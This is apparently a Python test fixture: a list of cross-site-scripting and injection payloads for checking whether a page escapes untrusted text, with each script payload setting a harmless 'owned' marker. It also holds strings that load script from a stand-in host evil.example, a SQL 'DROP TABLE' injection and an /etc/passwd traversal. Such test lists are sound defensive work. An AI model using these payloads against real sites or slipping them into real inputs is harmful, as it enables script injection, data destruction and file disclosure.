"""Texts that would run, break out or lead astray in a page that does not escape. Each sets or calls `owned`, so that a
browser tells whether one of them ran."""

RUN = "window.owned=1"
PAYLOADS = [
    f"<script>{RUN}</script>", f"<SCRIPT>{RUN}</SCRIPT>", f"<script >{RUN}</script >", f"<script/x>{RUN}</script>",
    f"</title><script>{RUN}</script>", f"</textarea><script>{RUN}</script>", f"</style><script>{RUN}</script>", f"</script><script>{RUN}</script>",
    f"--><script>{RUN}</script>", f"]]><script>{RUN}</script>", f"<!--<script>{RUN}</script>-->", f"<![CDATA[<script>{RUN}</script>]]>",
    f"\"><script>{RUN}</script>", f"'><script>{RUN}</script>", f"\" autofocus onfocus=\"{RUN}", f"' autofocus onfocus='{RUN}",
    f"\" onmouseover={RUN} x=\"", f"` onload=`{RUN}", f"<img src=x onerror={RUN}>", f"<img src=x onerror=\"{RUN}\">", f"<img/src=x/onerror={RUN}>",
    f"<IMG SRC=x OnErRoR={RUN}>", f"<img src=x onerror=&#119;indow.owned=1>", f"<svg onload={RUN}>", f"<svg/onload={RUN}>", f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><a xlink:href=\"javascript:{RUN}\"><text>x</text></a></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>", f"<body onload={RUN}>", f"<iframe src=\"javascript:{RUN}\"></iframe>",
    f"<iframe srcdoc=\"<script>parent.owned=1</script>\"></iframe>", f"<object data=\"javascript:{RUN}\"></object>", f"<embed src=\"javascript:{RUN}\">",
    f"<a href=\"javascript:{RUN}\">x</a>", f"<a href=\"JaVaScRiPt:{RUN}\">x</a>", f"<a href=\" javascript:{RUN}\">x</a>", f"<a href=\"java\tscript:{RUN}\">x</a>",
    f"<form action=\"javascript:{RUN}\"><button>x</button></form>", f"<button formaction=\"javascript:{RUN}\">x</button>", f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>", f"<textarea autofocus onfocus={RUN}>", f"<details open ontoggle={RUN}>", f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>", f"<marquee onstart={RUN}>x</marquee>", f"<meta http-equiv=refresh content=\"0;url=javascript:{RUN}\">",
    "<base href=\"https://evil.example/\">", "<link rel=stylesheet href=\"https://evil.example/x.css\">", "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{display:none!important}</style>", "<div style=\"background:url(javascript:window.owned=1)\">", f"<template><script>{RUN}</script></template>",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">", f"<x contenteditable onblur={RUN} autofocus tabindex=1>", f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}", f"<%= {RUN} %>", f"{{{{{{raw}}}}}} {{{{&raw}}}} {{{{#section}}}}", f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"%3Cscript%3E{RUN}%3C/script%3E", f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-", "\u202e<script>window.owned=1</script>", f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    "<script src=\"https://evil.example/x.js\"></script>", "<script src=//evil.example/x.js></script>", "x\r\nSet-Cookie: owned=1", "x\u2028window.owned=1//",
    "'; DROP TABLE articles; --", "../../../../etc/passwd", "javascript:window.owned=1", "data:text/html,<script>window.owned=1</script>",
]
